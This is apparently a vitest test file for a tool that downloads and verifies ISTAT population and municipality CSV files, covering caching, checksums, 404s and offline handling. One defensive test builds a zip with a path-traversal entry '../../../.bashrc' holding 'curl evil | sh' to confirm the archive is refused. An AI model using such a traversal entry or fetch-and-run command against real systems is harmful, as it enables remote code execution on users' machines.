import { createHash } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm, writeFile, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Progress } from '../progress.js';
import { loadSourceCatalog } from '../sources/descriptor.js';
import { readFetchManifest } from './manifest.js';
import { planDownloads, type FetchSelection } from './plan.js';
import { runFetch, verifyFetched } from './run-fetch.js';
import { fetchSourcesYaml, posasCsv } from './testing/catalog.js';
import { startFixtureServer, unusedPort, type FixtureServer } from './testing/fixture-server.js';
import { zipArchive } from './testing/zip-writer.js';

const COMUNI = 'codice_istat;denominazione_ita;codice_sovracomunale\n018110;Pavia;018\n';
const OPTIONS = { retries: 2, retryDelayMs: 5, timeoutMs: 2000 };
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

let server: FixtureServer;
let work: string;
let dataDir: string;
let lines: string[];
const progress: Progress = { step: (m) => void lines.push(m), warn: (m) => void lines.push(`warning: ${m}`) };

beforeAll(async () => {
  server = await startFixtureServer();
});
afterAll(() => server.close());
beforeEach(async () => {
  work = await mkdtemp(path.join(tmpdir(), 'osservatorio-fetch-'));
  dataDir = path.join(work, 'data');
  lines = [];
  for (const year of [2024, 2025]) server.serve(`/data/posas/POSAS_${year}_it_Comuni.zip`, zipArchive([{ name: `POSAS_${year}_it_Comuni.csv`, data: posasCsv(year) }]));
  server.serve('/csv/gi_comuni.csv', COMUNI);
});
afterEach(() => rm(work, { recursive: true, force: true }));

async function plan(yaml: string, selection: FetchSelection = {}) {
  const file = path.join(work, 'sources.yaml');
  await writeFile(file, yaml);
  return planDownloads(await loadSourceCatalog(file), selection);
}

describe('runFetch', () => {
  it('downloads, extracts and records every file, then asks again conditionally and skips the unchanged', async () => {
    const downloads = await plan(fetchSourcesYaml(server.origin));
    const first = await runFetch(dataDir, downloads, OPTIONS, progress, () => new Date('2025-03-01T10:00:00Z'));
    expect(first).toEqual({ fetched: [{ file: 'population/POSAS_2024_it_Comuni.csv', bytes: Buffer.byteLength(posasCsv(2024)) }, { file: 'population/POSAS_2025_it_Comuni.csv', bytes: Buffer.byteLength(posasCsv(2025)) }, { file: 'territory/gi_comuni.csv', bytes: COMUNI.length }], unchanged: [], kept: [], failures: [] });
    expect(await readFile(path.join(dataDir, 'population/POSAS_2025_it_Comuni.csv'), 'utf8')).toBe(posasCsv(2025));
    expect(await readFile(path.join(dataDir, 'territory/gi_comuni.csv'), 'utf8')).toBe(COMUNI);
    expect(lines[0]).toMatch(/^fetched population\/POSAS_2024_it_Comuni\.csv: \d+ B in \d+\.\d s \(.+\/s\) from 127\.0\.0\.1:\d+, extracted \d+ B$/);
    const manifest = await readFetchManifest(dataDir);
    expect(manifest.files['population/POSAS_2025_it_Comuni.csv']).toEqual({
      source: 'istat_posas',
      url: `${server.origin}/data/posas/POSAS_2025_it_Comuni.zip`,
      file: 'population/POSAS_2025_it_Comuni.csv',
      sha256: sha256(posasCsv(2025)),
      bytes: Buffer.byteLength(posasCsv(2025)),
      fetchedAt: '2025-03-01T10:00:00.000Z',
      etag: expect.stringMatching(/^"/),
      lastModified: 'Wed, 01 Jan 2025 00:00:00 GMT',
    });
    // Only the finished files: no partial download is left in the cache.
    expect((await readdir(path.join(dataDir, '.fetch'), { recursive: true })).filter((f) => f.endsWith('.part'))).toEqual([]);

    lines = [];
    const second = await runFetch(dataDir, downloads, OPTIONS, progress);
    expect(second).toMatchObject({ fetched: [], unchanged: ['population/POSAS_2024_it_Comuni.csv', 'population/POSAS_2025_it_Comuni.csv', 'territory/gi_comuni.csv'] });
    expect(server.requests.at(-1)?.headers['if-none-match']).toBe((await readFetchManifest(dataDir)).files['territory/gi_comuni.csv']?.etag);
    expect(lines).toContain('unchanged territory/gi_comuni.csv: not modified since it was fetched on 2025-03-01T10:00:00.000Z');

    // A publisher's new edition replaces the file.
    server.serve('/csv/gi_comuni.csv', `${COMUNI}018177;Vigevano;018\n`);
    const third = await runFetch(dataDir, downloads, OPTIONS, progress);
    expect(third.fetched).toEqual([{ file: 'territory/gi_comuni.csv', bytes: COMUNI.length + '018177;Vigevano;018\n'.length }]);
  });

  it('keeps a file it did not write as it is, and --verify names a fetched file that changed or went missing', async () => {
    const downloads = await plan(fetchSourcesYaml(server.origin));
    await mkdir(path.join(dataDir, 'territory'), { recursive: true });
    await writeFile(path.join(dataDir, 'territory/gi_comuni.csv'), 'by hand\n');
    const outcome = await runFetch(dataDir, downloads, OPTIONS, progress, () => new Date('2025-03-01T10:00:00Z'));
    expect(outcome.kept).toEqual(['territory/gi_comuni.csv']);
    expect(await readFile(path.join(dataDir, 'territory/gi_comuni.csv'), 'utf8')).toBe('by hand\n');
    expect(lines).toContain('kept territory/gi_comuni.csv: already in the data folder, not written by fetch; delete it to fetch it again');

    expect(await verifyFetched(dataDir, progress)).toEqual({ checked: 2, problems: [] });
    await writeFile(path.join(dataDir, 'population/POSAS_2024_it_Comuni.csv'), 'edited\n');
    await rm(path.join(dataDir, 'population/POSAS_2025_it_Comuni.csv'));
    expect((await verifyFetched(dataDir, progress)).problems).toEqual([
      `population/POSAS_2024_it_Comuni.csv:0:0: has sha256 ${sha256('edited\n')}; expected ${sha256(posasCsv(2024))}, as fetched from ${server.origin}/data/posas/POSAS_2024_it_Comuni.zip on 2025-03-01T10:00:00.000Z; delete it and fetch it again [fetched-file-changed]`,
      `population/POSAS_2025_it_Comuni.csv:0:0: was fetched from ${server.origin}/data/posas/POSAS_2025_it_Comuni.zip on 2025-03-01T10:00:00.000Z but is no longer in the data folder; fetch it again [fetched-file-missing]`,
    ]);
  });

  it('reports a 404 without retrying it and fetches the other files', async () => {
    const downloads = await plan(fetchSourcesYaml(server.origin).replace('years: [2024, 2025]', 'years: [2024, 2026]'));
    const before = server.requests.length;
    const outcome = await runFetch(dataDir, downloads, OPTIONS, progress);
    expect(outcome.failures).toEqual([
      `population/POSAS_2026_it_Comuni.csv:0:0: ${server.origin}/data/posas/POSAS_2026_it_Comuni.zip answered 404 Not Found; expected the file published by ISTAT: check that it is published (the year, the provincia) and download.url of istat_posas in sources.yaml [http-404]`,
    ]);
    expect(outcome.fetched).toHaveLength(3);
    expect(server.requests.slice(before).filter((r) => r.path.includes('2026'))).toHaveLength(1);
  });

  it('refuses a file whose sha256 is not the one declared, and replaces nothing', async () => {
    const wrong = 'f'.repeat(64);
    const downloads = await plan(fetchSourcesYaml(server.origin, { posasSha256: { 'population/POSAS_2025_it_Comuni.csv': wrong, 'population/POSAS_2024_it_Comuni.csv': sha256(posasCsv(2024)) } }));
    const outcome = await runFetch(dataDir, downloads, OPTIONS, progress);
    expect(outcome.failures).toEqual([
      `population/POSAS_2025_it_Comuni.csv:0:0: downloaded from ${server.origin}/data/posas/POSAS_2025_it_Comuni.zip has sha256 ${sha256(posasCsv(2025))}; expected ${wrong} (download.sha256 of istat_posas in sources.yaml): the publisher changed the file or the download is damaged; nothing was replaced [checksum-mismatch]`,
    ]);
    expect(outcome.fetched.map((f) => f.file)).toEqual(['population/POSAS_2024_it_Comuni.csv', 'territory/gi_comuni.csv']);
    expect(await readdir(path.join(dataDir, 'population'))).toEqual(['POSAS_2024_it_Comuni.csv']);
    expect(Object.keys((await readFetchManifest(dataDir)).files)).not.toContain('population/POSAS_2025_it_Comuni.csv');
  });

  it('refuses a zip whose entry path escapes the folder', async () => {
    server.serve('/data/posas/POSAS_2025_it_Comuni.zip', zipArchive([{ name: 'POSAS_2025_it_Comuni.csv', data: posasCsv(2025) }, { name: '../../../.bashrc', data: 'curl evil | sh' }]));
    const outcome = await runFetch(dataDir, await plan(fetchSourcesYaml(server.origin), { years: { from: 2025, to: 2025 }, sourceIds: ['istat_posas'] }), OPTIONS, progress);
    expect(outcome.failures).toEqual(['POSAS_2025_it_Comuni.zip:0:0: entry "../../../.bashrc" would be written outside the folder it is extracted into; refusing the whole archive [zip-entry-escapes]']);
    expect(await readdir(work, { recursive: true })).not.toContain('.bashrc');
    expect(await readdir(path.join(dataDir, 'population')).catch(() => [])).toEqual([]);
  });

  it('stops with the offline message when a publisher cannot be reached, keeping what it fetched', async () => {
    const port = await unusedPort();
    const downloads = await plan(fetchSourcesYaml(server.origin, { plainOrigin: `http://127.0.0.1:${port}` }));
    const outcome = await runFetch(dataDir, downloads, { ...OPTIONS, retries: 1 }, progress);
    expect(outcome.fetched.map((f) => f.file)).toEqual(['population/POSAS_2024_it_Comuni.csv', 'population/POSAS_2025_it_Comuni.csv']);
    expect(outcome.offline).toBe(
      `cannot reach 127.0.0.1:${port}: connect ECONNREFUSED 127.0.0.1:${port}; you are offline or the publisher is down; download the files by hand into ${dataDir}/territory/gi_comuni.csv (see sources.yaml):\n  http://127.0.0.1:${port}/csv/gi_comuni.csv → ${dataDir}/territory/gi_comuni.csv`,
    );
    expect(await readFile(path.join(dataDir, 'population/POSAS_2024_it_Comuni.csv'), 'utf8')).toBe(posasCsv(2024));
  });
});

describe('planDownloads', () => {
  it('expands the years asked for within those published, for the sources asked for', async () => {
    const yaml = fetchSourcesYaml('https://demo.istat.it');
    expect((await plan(yaml, { years: { from: 2025, to: 2030 } })).map((d) => [d.url, d.file, d.unzip])).toEqual([
      ['https://demo.istat.it/data/posas/POSAS_2025_it_Comuni.zip', 'population/POSAS_2025_it_Comuni.csv', 'POSAS_2025_it_Comuni.csv'],
      ['https://demo.istat.it/csv/gi_comuni.csv', 'territory/gi_comuni.csv', undefined],
    ]);
    expect((await plan(yaml, { sourceIds: ['comuni_plain'] })).map((d) => d.file)).toEqual(['territory/gi_comuni.csv']);
  });

  it('names the parameter it cannot honour', async () => {
    const yaml = fetchSourcesYaml('https://demo.istat.it');
    await expect(plan(yaml, { sourceIds: ['nope'] })).rejects.toThrow('--source nope: no source has this id; expected one of istat_posas, comuni_plain');
    await expect(plan(yaml.slice(0, yaml.lastIndexOf('    download:')), { sourceIds: ['comuni_plain'] })).rejects.toThrow('--source comuni_plain: sources.yaml gives no download for it; download territory/gi_comuni.csv by hand from Garda Informatica into the data folder');
    await expect(plan(yaml, { years: { from: 2030, to: 2031 }, sourceIds: ['istat_posas'] })).rejects.toThrow('--years 2030-2031: no selected source publishes these years; they offer istat_posas 2024-2025');
    const perProvincia = `variables:
  pop_res: { it: Popolazione residente, en: Residents, kind: count }
sources:
  - { id: confini, title: T, publisher: openpolis, licence: CC BY 4.0, role: comuni, file: 'territory/comuni_*.csv', format: csv,
      parse: { delimiter: ';', encoding: utf-8 }, reference_date: 2025-01-01, columns: { code: c, name: n, provincia_code: p },
      download: { url: 'https://example.org/{provincia}.csv', file: 'territory/comuni_{provincia}.csv' } }
`;
    await expect(plan(perProvincia)).rejects.toThrow('--provincia: the download of confini is one file per provincia; expected --provincia with 3-digit codes like 018 or 018,019');
    expect((await plan(perProvincia, { provinces: ['018', '019'] })).map((d) => [d.url, d.file])).toEqual([
      ['https://example.org/018.csv', 'territory/comuni_018.csv'],
      ['https://example.org/019.csv', 'territory/comuni_019.csv'],
    ]);
  });
});
